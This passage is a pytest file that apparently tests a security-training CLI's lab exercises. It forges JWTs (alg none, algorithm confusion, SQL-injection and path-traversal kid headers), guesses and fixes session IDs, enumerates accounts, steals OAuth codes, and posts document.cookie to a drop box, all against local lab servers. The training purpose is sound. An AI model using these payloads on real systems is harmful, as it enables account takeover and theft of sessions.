"""`authcli lab NAME --exercise` solved the way a student would: the exercise in its own process,
its URL read from stdout, then plain HTTP (requests) and the CLI tools as subprocesses. And what
it must not accept: the demo password, a token or flag from another run."""

from __future__ import annotations

import json
import os
import queue
import re
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from authcli import clock
from authcli.tokens.forge import unsigned
from authcli.walkthroughs.lab.practice import Practice
from test_tamper import cli
from test_tamper_servers import KeySetHost

EVE = {"email": "eve@example.com", "password": "eve"}
BIN = str(Path(sys.executable).parent)
ENV = {**os.environ, "NO_COLOR": "1", "COLUMNS": "200", "PYTHONUNBUFFERED": "1",
       "PATH": BIN + os.pathsep + os.environ.get("PATH", "")}


class Exercise:
    """`authcli lab NAME --exercise` in a real process; every read is bounded in time."""

    def __init__(self, name: str, home: Path, *extra: str, timeout: float = 20):
        self.timeout = timeout
        self.proc = subprocess.Popen([sys.executable, "-m", "authcli", "lab", name, "--exercise", *extra],
                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                     text=True, env={**ENV, "AUTHCLI_HOME": str(home)})
        self._lines: queue.Queue[str] = queue.Queue()
        self._reader = threading.Thread(target=lambda: [self._lines.put(line) for line in self.proc.stdout])
        self._reader.start()
        self.seen: list[str] = []
        self.url = re.search(r"Server: (http://127\.0\.0\.1:\d+)", self.until("Server: ")).group(1)

    def until(self, text: str) -> str:
        deadline = time.monotonic() + self.timeout
        while time.monotonic() < deadline:
            try:
                line = self._lines.get(timeout=0.1)
            except queue.Empty:
                if self.proc.poll() is not None and self._lines.empty():
                    raise AssertionError(f"exited ({self.proc.returncode}) before {text!r}: {''.join(self.seen)}")
                continue
            self.seen.append(line)
            if text in line:
                return line
        raise AssertionError(f"no {text!r} within {self.timeout} s: {''.join(self.seen)}")

    def until_match(self, pattern: str) -> str:
        while not re.search(pattern, line := self.until("")):
            pass
        return line

    def type(self, line: str) -> None:
        self.proc.stdin.write(line + "\n")
        self.proc.stdin.flush()

    def finish(self) -> tuple[int, str]:
        code = self.proc.wait(timeout=self.timeout)
        self._reader.join(timeout=self.timeout)
        while not self._lines.empty():
            self.seen.append(self._lines.get())
        return code, "".join(self.seen)

    def __enter__(self) -> Exercise:
        return self

    def __exit__(self, *exc: object) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait()
        self._reader.join(timeout=self.timeout)
        self.proc.stdin.close()
        self.proc.stdout.close()


def authcli(*args: str, input: str | None = None) -> str:
    """A CLI tool as the student runs it; its stdout (the token, for tamper)."""
    done = subprocess.run([sys.executable, "-m", "authcli", *args], capture_output=True, text=True,
                          env=ENV, input=input, timeout=60)
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def my_token(url: str) -> str:
    resp = requests.post(url + "/login", json=EVE, timeout=10)
    assert resp.status_code == 200, resp.text
    return resp.json()["token"]


def admin(url: str, token: str) -> requests.Response:
    return requests.get(url + "/admin", headers={"Authorization": f"Bearer {token}"}, timeout=10)


def handed(run: Exercise) -> str:
    """The credential the exercise hands over (an old token, a copied cookie), from its stdout."""
    pattern = r"(?:OLD='|COPY='|sessionId=|a line\): )([^'\s]+)'?$"
    return re.search(pattern, run.until_match(pattern)).group(1)


def session_admin(lab: str, run: Exercise) -> requests.Response:
    if lab == "predictable-id":
        mine = requests.post(run.url + "/login", json=EVE, timeout=10).cookies["sessionId"]
        cookie = str(int(mine) - 1)
    else:
        cookie = handed(run)
    return requests.get(run.url + "/admin", headers={"Cookie": f"sessionId={cookie}"}, timeout=10)


def forge(lab: str, url: str, folder: Path, run: Exercise) -> str:
    """What the hints lead to, lab by lab, with curl-equivalent HTTP and authcli's tools."""
    if lab == "no-exp":
        return handed(run)
    token = my_token(url)
    become = ["tamper", token, "--set", 'sub="1"']
    if lab == "weak-secret":
        found = re.search(r"secret is '([^']*)'", authcli("crack", token)).group(1)
        return authcli(*become, "--secret", found)
    if lab == "alg-confusion":
        from authcli.walkthroughs.lab.exercises import EXERCISES, hint

        command = hint(EXERCISES[lab], 3, url).split("Write the key as PEM: ", 1)[1]
        subprocess.run(command, shell=True, cwd=folder, env=ENV, check=True, timeout=30)
        return authcli(*become, "--alg", "HS256", "--secret-file", str(folder / "public.pem"))
    if lab == "alg-confusion-no-key":
        from authcli.walkthroughs.lab.exercises import EXERCISES, hint

        command = hint(EXERCISES[lab], 3, url).split("(gmpy2 makes it seconds): ", 1)[1]
        subprocess.run(command, shell=True, cwd=folder, env={**ENV, "TOKEN": token},
                       check=True, timeout=300)  # a gcd over 33-million-bit numbers: seconds, minutes when loaded
        return authcli(*become, "--alg", "HS256", "--secret-file", str(folder / "public.pem"))
    if lab == "kid-sql":
        return authcli(*become, "--header", "kid=x' UNION SELECT 'known-secret' --", "--secret", "known-secret")
    extra = {"alg-none": ["--alg", "none"], "no-verify": [], "jwk-header": ["--embed-jwk"],
             "kid-path": ["--header", "kid=../../../../../../../../dev/null", "--secret", ""]}[lab]
    return authcli(*become, *extra)


LABS = ["no-verify", "alg-none", "weak-secret", "jwk-header", "kid-path", "alg-confusion", "no-exp", "kid-sql"]
SESSION_LABS = ["predictable-id", "logout-cookie-only", "no-server-expiry"]


@pytest.mark.parametrize("lab", SESSION_LABS)
def test_a_student_solves_a_session_lab(lab, tmp_path):
    with Exercise(lab, tmp_path) as run:
        answer = session_admin(lab, run)
        assert answer.status_code == 200, answer.text
        code, out = run.finish()
    assert code == 0, out
    assert f"solved: {lab}" in out and "The same request to the hardened server" in out and "\n  401 " in out


def test_a_session_id_from_another_run_names_nobody(tmp_path):
    with Exercise("predictable-id", tmp_path) as first:
        mine = requests.post(first.url + "/login", json=EVE, timeout=10).cookies["sessionId"]
        theirs = str(int(mine) - 1)
        assert requests.get(first.url + "/admin", headers={"Cookie": f"sessionId={theirs}"}, timeout=10).ok
        assert first.finish()[0] == 0
    with Exercise("predictable-id", tmp_path) as second:
        again = requests.get(second.url + "/admin", headers={"Cookie": f"sessionId={theirs}"}, timeout=10)
        assert again.status_code == 401
        second.type("q")
        code, out = second.finish()
    assert code == 1 and "solved:" not in out


@pytest.mark.parametrize("lab", LABS)
def test_a_student_solves_it(lab, tmp_path):
    with Exercise(lab, tmp_path) as run:
        forged = forge(lab, run.url, tmp_path, run)
        answer = admin(run.url, forged)
        assert answer.status_code == 200, answer.text
        flag = re.search(r"authcli\{[A-Za-z0-9_-]+\}", answer.text).group(0)
        code, out = run.finish()
    assert code == 0, out
    assert f"solved: {lab}" in out and flag in out
    assert "The request that did it" in out and f"Authorization: Bearer {forged}" in out
    assert "The same request to the hardened server" in out and "\n  401 " in out


def test_alg_confusion_no_key_solved_with_a_recovered_key_and_nothing_else(tmp_path):
    """Two of the run's tokens, authcli's recovery as the hint writes it, then HS256 with that PEM.
    An HS256 token signed with any other public key's PEM is refused, and the key recovered in one
    run is not the next run's."""
    from conftest import require_gmpy2
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    require_gmpy2()
    lab = "alg-confusion-no-key"
    other = rsa.generate_private_key(public_exponent=65537, key_size=1024).public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    (tmp_path / "other.pem").write_bytes(other)
    with Exercise(lab, tmp_path, timeout=60) as first:
        assert requests.get(first.url + "/.well-known/jwks.json", timeout=10).status_code == 404
        wrong = authcli("tamper", my_token(first.url), "--set", 'sub="1"', "--alg", "HS256",
                        "--secret-file", str(tmp_path / "other.pem"))
        assert admin(first.url, wrong).status_code == 401
        forged = forge(lab, first.url, tmp_path, first)
        answer = admin(first.url, forged)
        assert answer.status_code == 200, answer.text
        code, out = first.finish()
    assert code == 0, out
    assert f"solved: {lab}" in out and "The same request to the hardened server" in out and "\n  401 " in out
    with Exercise(lab, tmp_path) as second:
        assert admin(second.url, forged).status_code == 401
        second.type("q")
        code, out = second.finish()
    assert code == 1 and "solved:" not in out


def test_kid_sql_signed_with_authcli_sign_and_not_by_a_plain_kid_or_another_run(tmp_path):
    """authcli sign builds the token from scratch (the run's audience copied from the login token);
    a token signed with the same secret but a plain kid is refused, and a forged token from
    another run names the wrong audience."""
    kid = "x' UNION SELECT 'known-secret' --"
    with Exercise("kid-sql", tmp_path) as first:
        aud = re.search(r"audience \(aud\) (\S+):", first.until("audience (aud)")).group(1)
        plain = authcli("sign", "--sub", "1", "--aud", aud, "--exp", "15m", "--kid", "server-key",
                        "--secret", "known-secret")
        assert admin(first.url, plain).status_code == 401
        forged = authcli("sign", "--sub", "1", "--aud", aud, "--exp", "15m", "--kid", kid, "--secret", "known-secret")
        assert admin(first.url, forged).status_code == 200
        code, out = first.finish()
    assert code == 0 and "solved: kid-sql" in out and "\n  401 " in out and "not a key name" in out
    with Exercise("kid-sql", tmp_path) as second:
        assert admin(second.url, forged).status_code == 401
        second.type("q")
        code, out = second.finish()
    assert code == 1 and "solved:" not in out


def test_jku_solved_with_a_key_set_served_from_a_folder(tmp_path):
    with Exercise("jku-header", tmp_path) as run, KeySetHost(tmp_path) as host:
        forged = authcli("tamper", my_token(run.url), "--set", 'sub="1"', "--jku", f"{host.url}/jwks.json",
                         "--jwks-out", str(tmp_path / "jwks.json"))
        assert admin(run.url, forged).status_code == 200
        code, out = run.finish()
    assert code == 0 and "solved: jku-header" in out


def test_the_demo_password_and_my_own_token_do_not_solve_it(tmp_path):
    with Exercise("alg-none", tmp_path) as run:
        demo = requests.post(run.url + "/login", json={"email": "a@b.com", "password": "123"}, timeout=10)
        assert demo.status_code == 401  # user 1's password is random in every run
        assert admin(run.url, my_token(run.url)).status_code == 403
        assert requests.get(run.url + "/admin", timeout=10).status_code == 401
        run.until("GET /admin -> 401")
        run.type("q")
        code, out = run.finish()
    assert code == 1 and "solved" not in out.replace("not solved", "")


def test_a_token_or_flag_from_another_run_is_refused(tmp_path):
    with Exercise("alg-none", tmp_path) as first:
        forged = forge("alg-none", first.url, tmp_path, first)
        flag = re.search(r"authcli\{[^}]+\}", admin(first.url, forged).text).group(0)
        assert first.finish()[0] == 0
    with Exercise("alg-none", tmp_path) as second:
        replayed = admin(second.url, forged)
        assert replayed.status_code == 401 and "aud" in replayed.text
        assert admin(second.url, flag).status_code == 401
        assert flag not in replayed.text
        second.type("q")
        code, out = second.finish()
    assert code == 1 and "solved:" not in out


def test_hints_come_one_at_a_time_and_the_progress_report_lists_the_solve(tmp_path):
    with Exercise("alg-none", tmp_path) as run:
        run.type("h")
        assert "Hint 1 of 4" in run.until("Hint 1 of 4")
        run.type("h")
        assert "[RFC 7518 §3.6]" in run.until("Hint 2 of 4")
        admin(run.url, forge("alg-none", run.url, tmp_path, run))
        assert run.finish()[0] == 0
    env = {**ENV, "AUTHCLI_HOME": str(tmp_path)}
    listed = subprocess.run([sys.executable, "-m", "authcli", "lab", "--progress", "-f", "markdown"],
                            capture_output=True, text=True, env=env, timeout=60)
    assert listed.returncode == 0
    assert re.search(r"\| alg-none \| \d{4}-\d\d-\d\dT[\d:]+Z \| \d+ s \| 2 \| authcli\{", listed.stdout)


def test_timeout_ends_with_one_line_and_exit_1(tmp_path):
    with Exercise("no-verify", tmp_path, "--timeout", "1") as run:
        code, out = run.finish()
    assert code == 1
    assert out.strip().splitlines()[-1] == ("error: not solved within 1 s (--timeout): this run's server "
                                            "has stopped; run the exercise again for a new one")


# The journal decides over a class, not one token: every unsigned token the alg-none exercise is
# sent solves it exactly when it names user 1 and this run's audience, whatever the case of
# "none", the other claims or sub's value; nothing earns a 5xx. (In process: the property is the
# server's and the judge's, not the student's path, which the tests above walk.)

NONE_CASES = st.sampled_from(["none", "None", "NONE", "nOnE", "noNe"])
SUBS = st.one_of(st.just("1"), st.just("2"), st.text(max_size=8), st.integers(-2, 3))


@pytest.fixture(scope="module")
def alg_none_run():
    with Practice("alg-none") as practice:
        yield practice


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(alg=NONE_CASES, sub=SUBS, own_run=st.booleans(), extra=st.dictionaries(st.text(max_size=5), st.integers(), max_size=2))
def test_the_judge_counts_exactly_user_1_by_alg_none(alg_none_run, alg, sub, own_run, extra):
    practice = alg_none_run
    now = int(clock.now())
    claims = {**{k: v for k, v in extra.items() if k not in ("sub", "exp", "iat", "aud")}, "sub": sub,
              "iat": now, "exp": now + 60, "aud": practice.audience if own_run else "authcli-exercise-0123456789abcdef"}
    answer = admin(practice.weak.url, unsigned({"alg": alg, "typ": "JWT"}, claims))
    assert answer.status_code < 500
    attempts = practice.poll()
    assert len(attempts) == 1
    assert attempts[0].solved == (sub == "1" and own_run), (answer.status_code, answer.text)
    assert (practice.flag in answer.text) == attempts[0].solved


def test_ctrl_c_stops_the_servers_and_says_so(tmp_path):
    import signal

    with Exercise("alg-none", tmp_path) as run:
        url = run.url
        run.proc.send_signal(signal.SIGINT)
        code, out = run.finish()
    assert code == 130 and out.strip().splitlines()[-1] == "interrupted" and "Traceback" not in out
    with pytest.raises(requests.ConnectionError):
        requests.get(url + "/admin", timeout=2)


def test_bad_options_get_one_line(tmp_path, monkeypatch):
    monkeypatch.setenv("AUTHCLI_HOME", str(tmp_path))
    for args, said in [(["nosuch", "--exercise"], "unknown weakness nosuch"),  # every lab has an exercise
                       (["--exercise"], "--exercise takes one lab"),
                       (["alg-none", "--hint", "9"], "alg-none has 4 hints"),
                       (["alg-none", "--hint", "x"], "--hint takes a number"),
                       (["alg-none", "--exercise", "--hint", "1"], "give one"),
                       (["alg-none", "--progress"], "leave out the lab names")]:
        done = cli("lab", *args)
        assert done.exit_code == 2 and said in done.stderr and done.stderr.count("\n") == 1, (args, done.stderr)
    for bad in ("{not json", '{"solved": [{"lab": "x"}]}', '{"solved": 3}',
                '{"solved": [{"lab": "x", "solved_at": "t", "seconds": "1", "hints": 0, "flag": "f", "run": "r"}]}'):
        (tmp_path / "progress.json").write_text(bad)
        done = cli("lab", "--progress")
        assert done.exit_code == 2 and "not an authcli progress file" in done.stderr, bad


def test_the_progress_report_escapes_what_the_file_says(tmp_path, monkeypatch):
    import json

    monkeypatch.setenv("AUTHCLI_HOME", str(tmp_path))
    entry = {"lab": "alg-none\x1b[2J", "solved_at": "2026-12-01T12:00:00Z", "seconds": 12.5, "hints": 1,
             "flag": "<b>authcli{x}|</b>", "run": "r"}
    (tmp_path / "progress.json").write_text(json.dumps({"solved": [entry]}))
    text, markdown, html = (cli("lab", "--progress", *f).stdout for f in ([], ["-f", "markdown"], ["-f", "html"]))
    assert "\x1b" not in text + markdown + html and "alg-none\\x1b[2J" in text
    assert "&lt;b&gt;authcli{x}|&lt;/b&gt;" in html and "authcli{x}\\|" in markdown


def test_hints_without_a_server(tmp_path):
    out = authcli("lab", "alg_none", "--hint", "all")
    assert [line.split(":")[0] for line in out.splitlines()] == [f"Hint {n} of 4" for n in range(1, 5)]
    assert "[^" not in out and "http://127.0.0.1:PORT/admin" in out


def guess_password(url: str, listed: str) -> tuple[str, int]:
    """The shell loop of the hints, in requests: every line of the list, in order, until one works."""
    tried = 0
    for line in Path(listed).read_text().splitlines():
        if not line or line.startswith("#"):
            continue
        tried += 1
        answer = requests.post(url + "/login", json={"email": "a@b.com", "password": line}, timeout=10)
        if answer.status_code == 200:
            return answer.cookies["sessionId"], tried
    raise AssertionError("no password in the list worked")


def test_a_student_guesses_the_password_with_no_rate_limit(tmp_path):
    with Exercise("no-rate-limit", tmp_path) as run:
        session, tried = guess_password(run.url, handed(run))
        assert tried > 5
        assert requests.get(run.url + "/admin", headers={"Cookie": f"sessionId={session}"}, timeout=10).ok
        code, out = run.finish()
    assert code == 0, out
    assert "solved: no-rate-limit" in out and re.search(r"the answer to login 6:\n  429 ", out), out


def test_a_password_known_beforehand_is_not_guessing(tmp_path):
    with Exercise("no-rate-limit", tmp_path) as first:
        listed = handed(first)
        password = [w for w in Path(listed).read_text().splitlines() if w and not w.startswith("#")][
            guess_password(first.url, listed)[1] - 1]
        first.type("q")
        assert first.finish()[0] == 1
    with Exercise("no-rate-limit", tmp_path) as second:
        answer = requests.post(second.url + "/login", json={"email": "a@b.com", "password": password}, timeout=10)
        if answer.status_code == 200:  # the same password drawn again: logging in with it is no guessing
            assert requests.get(second.url + "/admin", cookies=answer.cookies, timeout=10).ok
            second.until("not counted")
        second.type("q")
        code, out = second.finish()
    assert code == 1 and "solved:" not in out


def test_the_list_marks_exactly_the_labs_with_an_exercise():
    from authcli.walkthroughs.lab.exercises import EXERCISES

    listed = cli("lab", "--list").stdout.splitlines()
    marked = {line.split()[0] for line in listed if line.split()[2] == "exercise"}
    assert marked == set(EXERCISES) == set(LABS + SESSION_LABS + ["jku-header", "no-rate-limit", "user-enum", "fixation",
                                                                 "alg-confusion-no-key", "no-pkce", "redirect-prefix",
                                                                 "no-httponly", "login-csrf", "no-state",
                                                                 "wrong-aud", "no-nonce", "implicit"])
    for exercise in EXERCISES.values():  # graded: each hint says more; every fact cites a source
        assert len(exercise.hints) >= 3 and any("[^" in h for h in exercise.hints)


def the_emails(run: Exercise) -> list[str]:
    return run.until("The 20 emails: ").split("The 20 emails: ", 1)[1].split()


def enumerate_accounts(url: str, candidates: list[str]) -> list[str]:
    """Hint 3's loop, in requests: each email with a wrong password; keep those told 'Wrong password'."""
    found = []
    for email in candidates:
        answer = requests.post(url + "/login", json={"email": email, "password": "x"}, timeout=10)
        assert answer.status_code == 401
        if "Wrong password" in answer.text:
            found.append(email)
    return found


def send_answer(url: str, emails: list[str]) -> requests.Response:
    return requests.post(url + "/answer", json={"emails": emails}, timeout=10)


def test_a_student_finds_which_emails_have_accounts(tmp_path):
    with Exercise("user-enum", tmp_path) as run:
        candidates = the_emails(run)
        assert len(candidates) == 20 and "a@b.com" not in candidates
        found = enumerate_accounts(run.url, candidates)
        assert 3 <= len(found) <= 8
        assert send_answer(run.url, found).status_code == 200
        code, out = run.finish()
    assert code == 0, out
    assert "solved: user-enum, with 0 hints. Flag: authcli{" in out and f"this run's {len(found)} accounts" in out
    assert "Your first login for an email with no account, the same request, to the hardened server" in out
    assert "\n  401 Wrong credentials" in out and "No user with this email" not in out.split("hardened server")[-1]


def test_a_wrong_guessed_or_replayed_answer_is_not_accepted(tmp_path):
    with Exercise("user-enum", tmp_path) as first:
        found = enumerate_accounts(first.url, the_emails(first))
        send_answer(first.url, found)
        assert first.finish()[0] == 0
    with Exercise("user-enum", tmp_path) as second:
        candidates = the_emails(second)
        send_answer(second.url, found)  # another run's accounts, sent without asking /login here
        second.until_match(r"-> (wrong|right, but \d+ of the 20 emails were never tried)")
        mine = enumerate_accounts(second.url, candidates)
        send_answer(second.url, mine[1:])  # one missing
        second.until("-> wrong: not exactly this run's accounts (1 answer left)")
        send_answer(second.url, mine + ["eve@example.com"])  # one too many
        second.until("-> wrong: not exactly this run's accounts (0 answers left)")
        send_answer(second.url, mine)  # right, but past the three answers judged
        second.until("-> not judged: 3 answers per run")
        second.type("q")
        code, out = second.finish()
    assert code == 1 and "solved:" not in out


def test_a_bad_answer_gets_a_4xx_with_the_reason(tmp_path):
    with Exercise("user-enum", tmp_path) as run:
        url = run.url + "/answer"
        assert requests.get(url, timeout=10).status_code == 405
        assert requests.post(url, data='{"emails": []}', headers={"Content-Type": "text/plain"}, timeout=10).status_code == 415
        for body in ("{not json", '{"emails": 3}', '{"emails": [1]}', '["a@b.com"]', '{"emails": [""]}', "\xff"):
            answer = requests.post(url, data=body.encode("latin-1"), headers={"Content-Type": "application/json"}, timeout=10)
            assert answer.status_code == 400 and "emails" in answer.text, body
        run.type("q")
        code, out = run.finish()
    assert code == 1 and "Traceback" not in out and "solved:" not in out


def plant(url: str, session_id: str) -> requests.Response:
    return requests.post(url + "/victim", json={"sessionId": session_id}, timeout=10)


def with_cookie(url: str, session_id: str) -> requests.Response:
    return requests.get(url + "/admin", headers={"Cookie": f"sessionId={session_id}"}, timeout=10)


def test_a_student_fixes_user_1s_session_id(tmp_path):
    import secrets

    chosen = secrets.token_urlsafe(32)  # hint 1's python3 -c line
    with Exercise("fixation", tmp_path) as run:
        assert plant(run.url, chosen).status_code == 202
        run.until(f"user 1 logged in, their browser carrying sessionId={chosen} (200)")
        answer = with_cookie(run.url, chosen)
        assert answer.status_code == 200, answer.text
        code, out = run.finish()
    assert code == 0, out
    assert "solved: fixation" in out and f"Cookie: sessionId={chosen}" in out
    assert "The same request to the hardened server" in out and "\n  401 " in out


def test_an_id_not_planted_or_from_another_run_is_not_accepted(tmp_path):
    import secrets

    eves, earlier = secrets.token_urlsafe(32), secrets.token_urlsafe(32)
    with Exercise("fixation", tmp_path) as first:
        assert with_cookie(first.url, earlier).status_code == 401  # nothing planted yet: no session
        mine = requests.post(first.url + "/login", json=EVE, headers={"Cookie": f"sessionId={eves}"}, timeout=10)
        assert mine.cookies["sessionId"] == eves  # adopted: the weakness, but it is eve's session
        assert with_cookie(first.url, eves).status_code == 403
        plant(first.url, "too-short")  # not of the server's shape: user 1 logs in under a new ID
        first.until("carrying sessionId=too-short (200)")
        assert with_cookie(first.url, "too-short").status_code == 401
        plant(first.url, earlier)
        first.until(f"carrying sessionId={earlier} (200)")
        assert with_cookie(first.url, earlier).ok
        assert first.finish()[0] == 0
    with Exercise("fixation", tmp_path) as second:
        assert with_cookie(second.url, earlier).status_code == 401  # another run's: nobody
        url = second.url + "/victim"
        assert requests.get(url, timeout=10).status_code == 405
        assert requests.post(url, data="{}", headers={"Content-Type": "text/plain"}, timeout=10).status_code == 415
        for body in ("{not json", '{"sessionId": 3}', '{"sessionId": "a b"}', '{"sessionId": ""}', "[]"):
            answer = requests.post(url, data=body, headers={"Content-Type": "application/json"}, timeout=10)
            assert answer.status_code == 400 and "sessionId" in answer.text, body
        second.type("q")
        code, out = second.finish()
    assert code == 1 and "solved:" not in out and "Traceback" not in out


# user-enum's judge over a class: once every email was asked at /login, an answer solves it
# exactly when it names this run's accounts (in any order and case); no body earns a 5xx. And
# /victim's body: only an ID of the lab's shape is planted. (In process, as the alg-none one.)

@pytest.fixture(scope="module")
def user_enum_run():
    with Practice("user-enum") as practice:
        for email in practice.enum.candidates:
            requests.post(practice.weak.url + "/login", json={"email": email, "password": "x"}, timeout=10)
        practice.poll()
        assert practice.enum.probed == set(practice.enum.candidates)
        yield practice


ANSWERS = st.lists(st.sampled_from(["admin@b.com", "bob@b.com", "ceo@b.com", "ops@b.com", "a@b.com", "x"]), max_size=8)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(pick=st.lists(st.booleans(), min_size=20, max_size=20), noise=ANSWERS, upper=st.booleans(),
       junk=st.one_of(st.none(), st.binary(max_size=40), st.text(max_size=20).map(str.encode)))
def test_the_judge_counts_exactly_this_runs_accounts(user_enum_run, pick, noise, upper, junk):
    practice = user_enum_run
    practice.enum.answers = 0  # the three-answer limit is tested by a student above
    sent = [e for e, keep in zip(practice.enum.candidates, pick) if keep] + noise
    body = junk if junk is not None else json.dumps({"emails": [e.upper() if upper else e for e in sent]}).encode()
    answer = requests.post(practice.weak.url + "/answer", data=body, headers={"Content-Type": "application/json"},
                           timeout=10)
    assert answer.status_code in (200, 400)
    attempts = practice.poll()
    assert len(attempts) == 1
    assert attempts[0].solved == (junk is None and set(sent) == practice.enum.accounts), attempts[0].verdict


@settings(max_examples=40, deadline=None)
@given(value=st.one_of(st.text(max_size=140), st.integers(), st.none()))
def test_only_an_id_of_the_labs_shape_is_planted(value):
    from authcli.server.lab.answer import SESSION_ID, planted

    assert planted(json.dumps({"sessionId": value}).encode()) == (
        value if isinstance(value, str) and SESSION_ID.fullmatch(value) else None)


def nested(depth: int, opener: str) -> bytes:
    closer = {"[": "]", '{"email":': "}"}[opener]
    return (opener * depth + "1" + closer * depth).encode()


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(body=st.one_of(st.binary(max_size=60),
                      st.builds(nested, st.integers(0, 5000), st.sampled_from(["[", '{"email":'])),
                      st.recursive(st.none() | st.text(max_size=10) | st.integers(),
                                   lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
                                       st.sampled_from(["email", "password", "x"]), inner, max_size=3),
                                   max_leaves=20).map(lambda v: json.dumps(v).encode())))
def test_whatever_a_login_body_holds_the_exercise_reads_it_without_a_crash(user_enum_run, body):
    """A 5,000-deep [[[...]]] sent to /login ended `lab user-enum --exercise` with a RecursionError
    traceback: the exercise reads every login's body from the journal."""
    answer = requests.post(user_enum_run.weak.url + "/login", data=body, headers={"Content-Type": "application/json"},
                           timeout=10)
    assert answer.status_code < 500
    user_enum_run.poll()
    from authcli.server.lab.answer import body_field

    value = body_field(body, "email")
    assert value is None or isinstance(json.loads(body), dict)


# The OAuth labs: the goal is tokens for user 1 from /token; the exercise plays user 1 and the app.

def oauth_handed(run: Exercise) -> tuple[str, str]:
    """The app's client_id and (no-pkce) the logged redirect's code, from the lines to paste."""
    run.until(" hints: ")
    handout = "".join(run.seen)
    code = re.search(r"REDIRECT='[^']*[?&]code=([^&']+)", handout)
    return re.search(r"CLIENT='([^']+)'", handout).group(1), code.group(1) if code else ""


def redeem(url: str, client: str, code: str, redirect: str, **extra: str) -> requests.Response:
    return requests.post(url + "/token", data={"grant_type": "authorization_code", "code": code,
                                               "client_id": client, "redirect_uri": redirect, **extra}, timeout=10)


def sub_of(answer: requests.Response) -> str:
    """Whom the access token is for, as `authcli decode` shows it."""
    return json.loads(authcli("decode", answer.json()["access_token"], "-f", "json"))["payload"]["sub"]


def test_a_student_redeems_a_logged_code_without_pkce(tmp_path):
    from authcli.walkthroughs.lab.practice_oauth import APP

    with Exercise("no-pkce", tmp_path) as run:
        client, code = oauth_handed(run)
        answer = redeem(run.url, client, code, APP)
        assert answer.status_code == 200 and sub_of(answer) == "1", answer.text
        code_, out = run.finish()
    assert code_ == 0, out
    assert "solved: no-pkce" in out and "The same request to the hardened server" in out
    assert "code_verifier is required" in out


def test_no_pkce_not_by_a_wrong_code_a_second_use_or_another_run(tmp_path):
    from authcli.walkthroughs.lab.practice_oauth import APP

    with Exercise("no-pkce", tmp_path) as first:
        client, code = oauth_handed(first)
        assert redeem(first.url, client, code + "x", APP).status_code == 400
        assert redeem(first.url, "nobody", code, APP).status_code in (400, 401)
        assert redeem(first.url, client, code, APP).status_code == 200
        assert first.finish()[0] == 0
    with Exercise("no-pkce", tmp_path) as second:
        assert redeem(second.url, client, code, APP).status_code in (400, 401)
        second.type("q")
        code_, out = second.finish()
    assert code_ == 1 and "solved:" not in out


def send_link(url: str, client: str, redirect: str, challenge: str) -> requests.Response:
    from urllib.parse import urlencode

    query = urlencode({"response_type": "code", "client_id": client, "scope": "openid", "state": "x",
                       "redirect_uri": redirect, "code_challenge": challenge, "code_challenge_method": "S256"})
    return requests.post(url + "/victim", json={"link": f"{url}/authorize?{query}"}, timeout=10)


def test_a_student_steals_a_code_through_a_prefix_matched_redirect(tmp_path):
    from authcli.tokens.pkce import make_verifier, s256
    from authcli.walkthroughs.lab.practice_oauth import APP

    evil, verifier = APP + "/../../attacker", make_verifier()
    with Exercise("redirect-prefix", tmp_path) as run:
        client, _ = oauth_handed(run)
        assert send_link(run.url, client, evil, s256(verifier)).status_code == 202
        went = run.until("went to your page")
        code = re.search(r"[?&]code=([^&\s]+)", went).group(1)
        answer = redeem(run.url, client, code, evil, code_verifier=verifier)
        assert answer.status_code == 200 and sub_of(answer) == "1", answer.text
        code_, out = run.finish()
    assert code_ == 0, out
    assert "solved: redirect-prefix" in out and "User 1 opening your last link" in out and "\n  400 " in out


def test_redirect_prefix_not_by_the_apps_own_redirect_or_a_bad_link(tmp_path):
    """A link with the app's exact redirect URI sends the code to the app, not to the student; a
    link elsewhere is not opened; a body without a link is a 4xx."""
    from authcli.tokens.pkce import make_verifier, s256
    from authcli.walkthroughs.lab.practice_oauth import APP

    verifier = make_verifier()
    with Exercise("redirect-prefix", tmp_path) as run:
        client, _ = oauth_handed(run)
        assert send_link(run.url, client, APP, s256(verifier)).status_code == 202
        assert "the code is the app's, not yours" in run.until("went back to the app")
        assert "code=" not in run.seen[-1]
        assert requests.post(run.url + "/victim", json={"link": "http://example.com/authorize?x=1"},
                             timeout=10).status_code == 202
        assert "not followed" in run.until("not followed")
        assert requests.post(run.url + "/victim", json={"url": 1}, timeout=10).status_code == 400
        assert requests.post(run.url + "/victim", data="x", timeout=10).status_code == 415
        run.type("q")
        code_, out = run.finish()
    assert code_ == 1 and "solved:" not in out


# no-httponly: user 1's page, in a real Chromium, runs the script sent to /victim; /collect is the
# student's drop box. Only a request the student sends with user 1's ID counts.

def steal(url: str, script: str) -> requests.Response:
    return requests.post(url + "/victim", json={"script": script}, timeout=10)


COOKIE_OUT = 'fetch("/collect", {method: "POST", body: document.cookie})'  # hint 3's script


def test_a_student_steals_user_1s_cookie_with_a_script(tmp_path):
    from conftest import require_browser

    require_browser()
    with Exercise("no-httponly", tmp_path, timeout=40) as run:
        assert steal(run.url, COOKIE_OUT).status_code == 202
        run.until("your script in user 1's page: it ran")
        collected = requests.get(run.url + "/collect", timeout=10).text.splitlines()
        cookie = json.loads(collected[-1])
        assert cookie.startswith("sessionId=")
        answer = with_cookie(run.url, cookie.split("=", 1)[1])
        assert answer.status_code == 200, answer.text
        code, out = run.finish()
    assert code == 0, out
    assert "solved: no-httponly" in out and f"Cookie: {cookie}" in out
    # the same script in user 1's page on the hardened server: document.cookie gave ""
    assert "What your scripts in user 1's page there collected: GET /collect to the hardened server" in out
    assert '\n  200 ""\n' in out


def test_the_flag_fetched_by_the_page_or_eves_cookie_is_not_accepted(tmp_path):
    from conftest import require_browser

    require_browser()
    with Exercise("no-httponly", tmp_path, timeout=40) as run:
